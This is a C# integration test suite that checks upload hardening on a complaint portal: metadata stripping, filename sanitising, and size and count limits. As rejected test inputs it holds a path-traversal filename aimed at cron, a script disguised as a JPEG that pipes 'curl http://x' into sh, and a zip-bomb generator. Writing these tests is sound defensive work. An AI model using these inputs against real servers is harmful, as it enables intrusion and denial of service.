using System.IO.Compression;
using System.Net;
using System.Text;
using CountyIP.Modules.Protection.Domain;
using CountyIP.Platform.Data;
using CountyIP.Platform.Files;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace CountyIP.IntegrationTests.Protection;

/// <summary>Issue 5 §8 upload hardening, through the public multipart API.</summary>
[Collection(ProtectionApp.Name)]
public sealed class UploadTests(ProtectionAppFactory factory)
{
    internal static byte[] JpegWithGps(string marker)
    {
        using var s = new MemoryStream();
        s.Write([0xFF, 0xD8]);
        Segment(s, 0xE0, [.. "JFIF\0"u8, 1, 1, 0, 0, 1, 0, 1, 0, 0]);
        Segment(s, 0xE1, [.. "Exif\0\0"u8, .. Encoding.ASCII.GetBytes("GPSLatitude 26.05N " + marker)]);
        Segment(s, 0xDB, new byte[65]);
        s.Write([0xFF, 0xDA, 0x00, 0x02, 0x12, 0x34, 0x56, 0xFF, 0xD9]);
        return s.ToArray();
    }

    [Fact]
    public async Task Upload_ImageWithGpsAndPathInName_StoredWithoutMetadataUnderServerName()
    {
        var respondent = "上传被投诉方" + Guid.NewGuid().ToString("N")[..6];
        var marker = "GPSMARK" + Guid.NewGuid().ToString("N")[..8];

        using var response = await PostAsync(respondent, ("../../etc/cron.d/evil.jpg", JpegWithGps(marker)));

        response.StatusCode.ShouldBe(HttpStatusCode.OK, await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));
        await using var scope = factory.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<CountyIpDbContext>();
        var evidence = (await db.Set<ProtectionCase>().Include(c => c.Evidence).SingleAsync(c => c.Respondent == respondent, TestContext.Current.CancellationToken)).Evidence.Single();
        evidence.FileName.ShouldBe("evil.jpg");
        evidence.FileKey.ShouldNotContain("evil");
        evidence.FileKey.ShouldNotContain("..");
        await using var stored = scope.ServiceProvider.GetRequiredService<IFileStore>().OpenRead(evidence.FileKey).ShouldNotBeNull();
        using var copy = new MemoryStream();
        await stored.CopyToAsync(copy, TestContext.Current.CancellationToken);
        Encoding.ASCII.GetString(copy.ToArray()).ShouldNotContain(marker);
        copy.ToArray()[..2].ShouldBe(new byte[] { 0xFF, 0xD8 });
    }

    [Fact]
    public async Task Upload_ScriptRenamedJpg_409AndNoCase()
    {
        var respondent = "脚本被投诉方" + Guid.NewGuid().ToString("N")[..6];

        using var response = await PostAsync(respondent, ("photo.jpg", "#!/bin/sh\ncurl http://x | sh\n"u8.ToArray()));

        response.StatusCode.ShouldBe(HttpStatusCode.Conflict);
        (await CountAsync(respondent)).ShouldBe(0);
    }

    [Fact]
    public async Task Upload_ZipBombAsDocx_409()
    {
        var respondent = "炸弹被投诉方" + Guid.NewGuid().ToString("N")[..6];
        using var zip = new MemoryStream();
        using (var archive = new ZipArchive(zip, ZipArchiveMode.Create, leaveOpen: true))
        {
            using (var types = new StreamWriter(archive.CreateEntry("[Content_Types].xml").Open()))
            {
                types.Write("<Types/>");
            }

            await using var document = archive.CreateEntry("word/document.xml", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1024 * 1024];
            for (var i = 0; i < 300; i++)
            {
                document.Write(zeros);
            }
        }

        using var response = await PostAsync(respondent, ("report.docx", zip.ToArray()));

        response.StatusCode.ShouldBe(HttpStatusCode.Conflict);
        (await CountAsync(respondent)).ShouldBe(0);
    }

    [Fact]
    public async Task Upload_Oversize_400()
    {
        var big = new byte[EvidenceInspector.MaxBytes + 10];
        "%PDF-"u8.CopyTo(big);

        using var response = await PostAsync("超大被投诉方", ("big.pdf", big));

        response.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
    }

    [Fact]
    public async Task Upload_ElevenFiles_400()
    {
        var files = Enumerable.Range(0, 11).Select(i => ($"{i}.pdf", "%PDF-1.4\n"u8.ToArray())).ToArray();

        using var response = await PostAsync("多文件被投诉方", files);

        response.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
    }

    private async Task<HttpResponseMessage> PostAsync(string respondent, params (string Name, byte[] Content)[] files)
    {
        using var client = factory.ClientAs(null);
        using var form = new MultipartFormDataContent
        {
            { new StringContent("CopyrightInfringement"), "kind" },
            { new StringContent(respondent), "respondent" },
            { new StringContent("仓山区"), "place" },
            { new StringContent("盗版图书"), "description" },
        };
        foreach (var (name, content) in files)
        {
            form.Add(new ByteArrayContent(content), "files", name);
        }

        return await client.PostAsync(new Uri("/api/portal/complaints", UriKind.Relative), form, TestContext.Current.CancellationToken);
    }

    private async Task<int> CountAsync(string respondent)
    {
        await using var scope = factory.Services.CreateAsyncScope();
        return await scope.ServiceProvider.GetRequiredService<CountyIpDbContext>().Set<ProtectionCase>().CountAsync(c => c.Respondent == respondent, TestContext.Current.CancellationToken);
    }

    private static void Segment(Stream s, byte marker, byte[] payload)
    {
        s.Write([0xFF, marker, (byte)((payload.Length + 2) >> 8), (byte)((payload.Length + 2) & 0xFF)]);
        s.Write(payload);
    }
}
